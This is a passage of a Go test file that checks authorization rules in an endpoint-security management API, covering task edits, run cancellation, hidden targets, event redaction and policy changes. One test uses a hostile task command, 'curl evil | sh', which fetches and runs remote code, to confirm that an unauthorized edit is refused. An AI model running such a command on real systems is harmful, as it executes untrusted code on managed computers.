	mover := w.asUser(t, "mover", store.GroupAll, grants("carriers", []string{store.GroupAll}, carriers),
		grants("lap detections", []string{w.laptops}, map[authz.Functionality]authz.Level{authz.Detections: authz.Read}))
	if msg := wantError(t, move(mover), http.StatusForbidden, errcode.Forbidden); !strings.Contains(msg, "detections") {
		t.Fatalf("refusal %q does not name what would widen", msg)
	}
	if g := decodeAs[groupJSON](t, w.call(t, "GET", "/api/v1/groups/"+w.servers, ""), http.StatusOK); g.Path != "All/Servers" {
		t.Fatalf("Servers moved to %s", g.Path)
	}
	// The administrator, who holds everything everywhere, moves it.
	if rec := w.call(t, "POST", "/api/v1/groups/"+w.servers+"/move", fmt.Sprintf(`{"parent":"All/Laptops","version":%d}`, servers.Version)); rec.Code != http.StatusOK {
		t.Fatalf("administrator's move: %d %s", rec.Code, rec.Body)
	}
}

// A group holding a policy, a task or a dynamic group is not empty: its
// deletion is a conflict that says why, not an internal error.
func TestGroups_DeletingAGroupThatHoldsPoliciesTasksOrDynamicGroups(t *testing.T) {
	w := newWorld(t)
	for _, fill := range []func(g string){
		func(g string) {
			if err := w.db.CreateTask(t.Context(), &store.TaskRow{ID: uuid.NewString(), Name: "t " + g, Type: "engine_update", Params: `{}`, GroupID: g}); err != nil {
				t.Fatal(err)
			}
		},
		func(g string) {
			if err := w.db.CreatePolicy(t.Context(), &store.PolicyRow{ID: uuid.NewString(), Name: "p " + g, Product: "agent", GroupID: g, Settings: `{}`}); err != nil {
				t.Fatal(err)
			}
		},
		func(g string) {
			if err := w.db.CreateDynamicGroup(t.Context(), &store.DynamicGroup{ID: uuid.NewString(), Name: "d " + g, StaticParentID: g,
				Template: `{"op":"and","rules":[{"field":"tag","operator":"=","value":"x"}]}`}); err != nil {
				t.Fatal(err)
			}
		},
	} {
		g := w.createGroup(t, "", "Tmp-"+uuid.NewString()[:8])
		fill(g.ID)
		d := decodeAs[groupDetail](t, w.call(t, "GET", "/api/v1/groups/"+g.ID, ""), http.StatusOK)
		if d.Members == (membersJSON{}) {
			t.Fatalf("group %s shows no members", g.Path)
		}
		wantError(t, w.call(t, "DELETE", fmt.Sprintf("/api/v1/groups/%s?version=%d", g.ID, g.Version), ""), http.StatusConflict, errcode.Conflict)
	}
}

// Who may edit a task but not use the computers its triggers run it on
// cannot change what it does there; a name is theirs to change.
func TestAuthorization_TaskParametersNeedTheTriggersComputers(t *testing.T) {
	w := newWorld(t)
	task := &store.TaskRow{ID: uuid.NewString(), Name: "cmd", Type: "run_command", Params: `{"command":"true","timeout":"60s","max_output":100}`, GroupID: w.laptops}
	if err := w.db.CreateTask(t.Context(), task); err != nil {
		t.Fatal(err)
	}
	if err := w.db.CreateTrigger(t.Context(), &store.TriggerRow{ID: uuid.NewString(), TaskID: task.ID, Spec: `{"kind":"daily","at":"03:00"}`,
		Targets: `[{"type":"computer","id":"c-srv"}]`, Enabled: true, CreatedAt: w.now}); err != nil {
		t.Fatal(err)
	}
	ps := &store.PermissionSet{ID: uuid.NewString(), Name: "Laptop tasks", GroupID: store.GroupAll, Groups: []string{w.laptops},
		Grants: map[string]int{string(authz.Tasks): int(authz.Write)}}
	if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
		t.Fatal(err)
	}
	editor := w.asUser(t, "laptop-tasks", w.laptops, ps.ID)
	rec := w.serve(t, request{method: "PATCH", path: "/api/v1/tasks/" + task.ID, body: `{"params":{"command":"curl evil | sh"},"version":1}`, cookie: editor})
	if msg := wantError(t, rec, http.StatusForbidden, errcode.Forbidden); strings.Contains(msg, "Servers") {
		t.Fatalf("the refusal names the hidden group: %q", msg)
	}
	got := decodeAs[taskJSON](t, w.call(t, "GET", "/api/v1/tasks/"+task.ID, ""), http.StatusOK)
	if !strings.Contains(string(got.Params), `"true"`) || got.Version != 1 {
		t.Fatalf("task after a refused edit: %s (version %d)", got.Params, got.Version)
	}
	rec = w.serve(t, request{method: "PATCH", path: "/api/v1/tasks/" + task.ID, body: `{"name":"renamed","version":1}`, cookie: editor})
	if rec.Code != http.StatusOK {
		t.Fatalf("renaming: %d %s", rec.Code, rec.Body)
	}
	// Whoever may use the computers there may change the parameters; a
	// trigger aimed at a group deleted since runs nothing and is no bar.
	if err := w.db.CreateTrigger(t.Context(), &store.TriggerRow{ID: uuid.NewString(), TaskID: task.ID, Spec: `{"kind":"daily","at":"04:00"}`,
		Targets: `[{"type":"static_group","id":"a-deleted-group"}]`, Enabled: true, CreatedAt: w.now}); err != nil {
		t.Fatal(err)
	}
	rec = w.call(t, "PATCH", "/api/v1/tasks/"+task.ID, `{"params":{"command":"uptime"},"version":2}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("the administrator's edit: %d %s", rec.Code, rec.Body)
	}
}

// Cancelling a run stops work on a computer: it needs use there, as
// retrying does, not only read.
func TestAuthorization_CancellingARunNeedsUseOnItsComputer(t *testing.T) {
	w := newWorld(t)
	run := &store.TaskRun{ID: uuid.NewString(), TaskID: w.task, TriggerID: w.trigger, ComputerID: "c-srv", Type: "scan", Params: `{}`,
		State: store.RunPlanned, CreatedAt: w.now, NotBefore: w.now, ExpiresAt: w.now.Add(time.Hour)}
	if err := w.db.CreateRuns(t.Context(), []*store.TaskRun{run}); err != nil {
		t.Fatal(err)
	}
	ps := &store.PermissionSet{ID: uuid.NewString(), Name: "Watchers", GroupID: store.GroupAll, Groups: []string{w.servers},
		Grants: map[string]int{string(authz.Computers): int(authz.Read), string(authz.Tasks): int(authz.Use)}}
	if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
		t.Fatal(err)
	}
	watcher := w.asUser(t, "watcher", w.servers, ps.ID)
	if rec := w.serve(t, request{method: "GET", path: "/api/v1/task-runs/" + run.ID, cookie: watcher}); rec.Code != http.StatusOK {
		t.Fatalf("reading the run: %d %s", rec.Code, rec.Body)
	}
	wantError(t, w.serve(t, request{method: "POST", path: "/api/v1/task-runs/" + run.ID + "/cancel", cookie: watcher}), http.StatusForbidden, errcode.Forbidden)
	if got, _ := w.db.RunByID(t.Context(), run.ID); got.State != store.RunPlanned {
		t.Fatalf("run %s after a refused cancel", got.State)
	}
	if rec := w.call(t, "POST", "/api/v1/task-runs/"+run.ID+"/cancel", ""); rec.Code != http.StatusOK {
		t.Fatalf("the administrator's cancel: %d %s", rec.Code, rec.Body)
	}
}

// A target the caller may not read answers exactly as a missing one: a
// hidden computer's name, or its being revoked, does not leak.
func TestAuthorization_HiddenTargetsAreAsMissingAsAbsentOnes(t *testing.T) {
	w := newWorld(t)
	if rec := w.call(t, "POST", "/api/v1/computers/c-srv/revoke", ""); rec.Code != http.StatusNoContent {
		t.Fatalf("revoke: %d %s", rec.Code, rec.Body)
	}
	task := &store.TaskRow{ID: uuid.NewString(), Name: "laptop update", Type: "engine_update", Params: `{}`, GroupID: w.laptops}
	if err := w.db.CreateTask(t.Context(), task); err != nil {
		t.Fatal(err)
	}
	lap := w.cookies["laptops-admin"]
	run := func(target string) string {
		return wantError(t, w.serve(t, request{method: "POST", path: "/api/v1/tasks/" + task.ID + "/run",
			body: target, cookie: lap}), http.StatusNotFound, errcode.NotFound)
	}
	hidden, missing := run(`{"targets":[{"type":"computer","id":"c-srv"}]}`), run(`{"targets":[{"type":"computer","id":"c-nope"}]}`)
	if strings.Contains(hidden, "srv-01") || strings.Replace(hidden, "c-srv", "c-nope", 1) != missing {
		t.Fatalf("hidden computer: %q; missing one: %q", hidden, missing)
	}
	hidden, missing = run(`{"targets":[{"type":"static_group","path":"All/Servers"}]}`), run(`{"targets":[{"type":"static_group","path":"All/Nope"}]}`)
	if strings.Replace(hidden, "Servers", "Nope", 1) != missing {
		t.Fatalf("hidden group: %q; missing one: %q", hidden, missing)
	}
	pol := decodeAs[policyJSON](t, w.serve(t, request{method: "POST", path: "/api/v1/policies", body: `{"name":"lap","product":"agent","settings":{}}`, cookie: lap}), http.StatusCreated)
	assign := func(target string) string {
		return wantError(t, w.serve(t, request{method: "POST", path: "/api/v1/policies/" + pol.ID + "/assignments", body: target, cookie: lap}),
			http.StatusNotFound, errcode.NotFound)
	}
	if hidden, missing := assign(`{"target_type":"computer","target":"c-srv"}`), assign(`{"target_type":"computer","target":"c-nope"}`); hidden != missing {
		t.Fatalf("assigning to a hidden computer: %q; to a missing one: %q", hidden, missing)
	}
	if hidden, missing := assign(`{"target_type":"dynamic","target":"`+w.dyn+`"}`), assign(`{"target_type":"dynamic","target":"d-nope"}`); hidden != missing {
		t.Fatalf("assigning to a hidden dynamic group: %q; to a missing one: %q", hidden, missing)
	}
	trigger := func(dyn string) string {
		return wantError(t, w.serve(t, request{method: "POST", path: "/api/v1/tasks/" + task.ID + "/triggers",
			body: `{"trigger":{"kind":"joined_dynamic_group","dynamic_group_id":"` + dyn + `"}}`, cookie: lap}), http.StatusNotFound, errcode.NotFound)
	}
	if hidden, missing := trigger(w.dyn), trigger("d-nope"); strings.Replace(hidden, w.dyn, "d-nope", 1) != missing {
		t.Fatalf("a trigger on a hidden dynamic group: %q; on a missing one: %q", hidden, missing)
	}
}

// A computer's events show what happened to whoever may read the computer,
// but what a detection event or a task event says (a signature, a path, a
// command's output) only to whoever may read detections there or the task.
func TestAuthorization_EventsWithholdWhatTheirAreaGuards(t *testing.T) {
	w := newWorld(t)
	out := `{"run_id":"` + w.run + `","state":"succeeded","exit_code":0,"output":"secret output"}`
	w.checkIn(t, &store.CheckIn{ComputerID: "c-srv", Now: w.now, Events: []store.Event{{ID: "task-ev", Type: store.EventTaskFinished, OccurredAt: w.now, Data: out}}})
	grant := func(name string, g map[authz.Functionality]authz.Level) string {
		ps := &store.PermissionSet{ID: uuid.NewString(), Name: name, GroupID: store.GroupAll, Groups: []string{w.servers}, Grants: map[string]int{}}
		for f, l := range g {
			ps.Grants[string(f)] = int(l)
		}
		if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
			t.Fatal(err)
		}
		return w.asUser(t, name, w.servers, ps.ID)
	}
	inventory := grant("inventory", map[authz.Functionality]authz.Level{authz.Computers: authz.Read})
	analyst := grant("analyst", map[authz.Functionality]authz.Level{authz.Computers: authz.Read, authz.Detections: authz.Read, authz.Tasks: authz.Read})
	byType := func(cookie, path string) map[string]eventJSON {
		t.Helper()
		rec := w.serve(t, request{method: "GET", path: path, cookie: cookie})
		var evs []eventJSON
		if strings.Contains(path, "/events") {
			evs = decodeAs[struct{ Items []eventJSON }](t, rec, http.StatusOK).Items
		} else {
			evs = decodeAs[computerDetail](t, rec, http.StatusOK).RecentEvents
		}
		m := map[string]eventJSON{}
		for _, e := range evs {
			m[e.Type] = e
		}
		return m
	}
	for _, path := range []string{"/api/v1/computers/c-srv/events", "/api/v1/computers/c-srv"} {
		seen := byType(inventory, path)
		det, task := seen[store.DetectionEventType], seen[store.EventTaskFinished]
		if det.ID == "" || task.ID == "" {
			t.Fatalf("%s: the events themselves are missing: %+v", path, seen)
		}
		if string(det.Data) != "{}" || det.Withheld == "" || string(task.Data) != "{}" || task.Withheld == "" {
			t.Fatalf("%s: computers:read alone sees detection %s (%q) and task %s (%q)", path, det.Data, det.Withheld, task.Data, task.Withheld)
		}
		seen = byType(analyst, path)
		det, task = seen[store.DetectionEventType], seen[store.EventTaskFinished]
		if !strings.Contains(string(det.Data), "EICAR") || det.Withheld != "" || !strings.Contains(string(task.Data), "secret output") || task.Withheld != "" {
			t.Fatalf("%s: the analyst sees detection %s (%q) and task %s (%q)", path, det.Data, det.Withheld, task.Data, task.Withheld)
		}
	}
}

// Where a static group is named, its id (as lists show it) works as well
// as its path; a hidden group's id is as missing as its path.
func TestGroups_AnIDWorksWhereAPathIsAsked(t *testing.T) {
	w := newWorld(t)
	for _, g := range []string{"All/Servers", w.servers} {
		l := decodeAs[struct{ Total int }](t, w.call(t, "GET", "/api/v1/computers?group="+url.QueryEscape(g), ""), http.StatusOK)
		if l.Total != 1 {
			t.Fatalf("computers?group=%s: %d", g, l.Total)
		}
	}
	lap := w.cookies["laptops-admin"]
	for _, g := range []string{"All/Servers", w.servers} {
		rec := w.serve(t, request{method: "POST", path: "/api/v1/groups", body: fmt.Sprintf(`{"parent":%q,"name":"x"}`, g), cookie: lap})
		wantError(t, rec, http.StatusNotFound, errcode.NotFound)
	}
}

// New settings of a policy reach every computer it is assigned to: who may
// edit the policy but not write computers where it is assigned cannot
// change them; its name stays theirs to change.
func TestAuthorization_PolicySettingsNeedTheAssignmentsComputers(t *testing.T) {
	w := newWorld(t)
	lap := w.cookies["laptops-admin"]
	p := decodeAs[policyJSON](t, w.serve(t, request{method: "POST", path: "/api/v1/policies",
		body: `{"name":"lap agent","product":"protection","settings":{"action_on_detection":{"flag":"apply","value":"quarantine"}}}`, cookie: lap}), http.StatusCreated)
	if rec := w.call(t, "POST", "/api/v1/policies/"+p.ID+"/assignments", `{"target_type":"static","target":"All/Servers"}`); rec.Code != http.StatusCreated {
		t.Fatalf("the administrator's assignment: %d %s", rec.Code, rec.Body)
	}
	rec := w.serve(t, request{method: "PATCH", path: "/api/v1/policies/" + p.ID, cookie: lap,
		body: fmt.Sprintf(`{"settings":{"action_on_detection":{"flag":"apply","value":"report"},"scan_exclusions":{"flag":"apply","value":["/"]}},"version":%d}`, p.Version)})
	if msg := wantError(t, rec, http.StatusForbidden, errcode.Forbidden); strings.Contains(msg, "Servers") {
		t.Fatalf("the refusal names the hidden group: %q", msg)
	}
	if got := decodeAs[policyJSON](t, w.call(t, "GET", "/api/v1/policies/"+p.ID, ""), http.StatusOK); got.Version != p.Version {
		t.Fatalf("the policy changed: %+v", got)
	}
	if rec := w.serve(t, request{method: "PATCH", path: "/api/v1/policies/" + p.ID, cookie: lap, body: fmt.Sprintf(`{"name":"renamed","version":%d}`, p.Version)}); rec.Code != http.StatusOK {
		t.Fatalf("renaming: %d %s", rec.Code, rec.Body)
	}
}

// Moving a computer takes its detections along: who may write computers at
// both ends but read detections only at the destination cannot move one
// there to read them.
func TestAuthorization_MovingAComputerDoesNotWidenWhatTheCallerReaches(t *testing.T) {
	w := newWorld(t)
	ps := func(name string, groups []string, g map[string]int) string {
		p := &store.PermissionSet{ID: uuid.NewString(), Name: name, GroupID: store.GroupAll, Groups: groups, Grants: g}
		if err := w.db.CreatePermissionSet(t.Context(), p); err != nil {
			t.Fatal(err)
		}
		return p.ID
	}
	mover := w.asUser(t, "mover", store.GroupAll,
		ps("computers", []string{w.servers, w.laptops}, map[string]int{string(authz.Computers): int(authz.Write)}),
		ps("lap detections", []string{w.laptops}, map[string]int{string(authz.Detections): int(authz.Read)}))
	c := decodeAs[computerJSON](t, w.call(t, "GET", "/api/v1/computers/c-srv", ""), http.StatusOK)
	rec := w.serve(t, request{method: "POST", path: "/api/v1/computers/c-srv/move", body: fmt.Sprintf(`{"group":"All/Laptops","version":%d}`, c.Version), cookie: mover})
	if msg := wantError(t, rec, http.StatusForbidden, errcode.Forbidden); !strings.Contains(msg, "detections") {
		t.Fatalf("refusal %q", msg)
	}
	if got := decodeAs[computerJSON](t, w.call(t, "GET", "/api/v1/computers/c-srv", ""), http.StatusOK); got.Group.ID != w.servers {
		t.Fatalf("the computer moved to %+v", got.Group)
	}
}
